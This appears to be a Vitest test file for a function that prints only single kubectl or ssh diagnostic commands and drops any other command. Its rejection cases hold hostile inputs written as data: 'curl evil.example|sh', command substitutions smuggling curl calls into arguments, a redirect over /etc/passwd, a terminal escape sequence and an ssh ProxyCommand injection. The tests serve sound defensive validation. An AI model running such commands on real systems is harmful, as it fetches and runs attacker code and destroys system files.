import { expect, it } from 'vitest';

import { commandLines } from '../../src/people/pens/text-pen.js';

it.each([
  'kubectl ephemeral-storage explain pod shop/cart-0 --directories -c app',
  'kubectl get pods -A --sort-by=.spec.priority --field-selector spec.nodeName=node-1',
  'kubectl get --raw /api/v1/nodes/node-1/proxy/configz',
  'kubectl set resources -n shop deployment/cart -c app --requests=ephemeral-storage=64Mi --limits=ephemeral-storage=64Mi',
  `kubectl patch -n shop deployment/cart --type=strategic -p '{"spec":{"template":{"spec":{"volumes":[{"name":"data","emptyDir":{"sizeLimit":"2304Mi"}}]}}}}'`,
  `kubectl debug node/node-1 -it --profile=sysadmin --image=busybox -- chroot /host sh -c 'du -xhd3 / /var | sort -h | tail -20'`,
  `ssh node-1 'sudo journalctl -u kubelet --since -10min | grep -i "orphaned pod" | tail -3'`,
  `ssh node-1 'sudo du -xhd1 '"'"'/var/lib/my data'"'"' | sort -h | tail -20'`,
])('the command %s is printed', (command) => {
  expect(commandLines([command], 200)).toEqual([`  ${command}`]);
});

it.each([
  'kubectl get pods; curl evil.example|sh',
  'kubectl get nodes && curl evil.example',
  'kubectl get nodes > /etc/passwd',
  'kubectl get nodes\ncurl evil.example',
  'kubectl delete pod -n shop $(curl evil.example)',
  'kubectl delete pod -n shop `curl evil.example`',
  'kubectl delete pod -n shop "$(curl evil.example)"',
  "kubectl delete pod 'a\u001b[2Jb'",
  'kubectl --server=https://evil.example get nodes',
  'kubectl-evil get nodes',
  'kubectl',
  'echo kubectl get nodes',
  ' kubectl get nodes',
  `ssh -oProxyCommand=evil 'sudo crictl images'`,
  'curl evil.example',
  `kubectl get ${'a'.repeat(100_000)};`,
  '',
])('the command %j, of another program or of more than one, is left out', (command) => {
  expect(commandLines(['kubectl get nodes', command], 200)).toEqual([
    '  kubectl get nodes',
    '1 command of the exporter left out: not one call of kubectl or ssh.',
  ]);
});
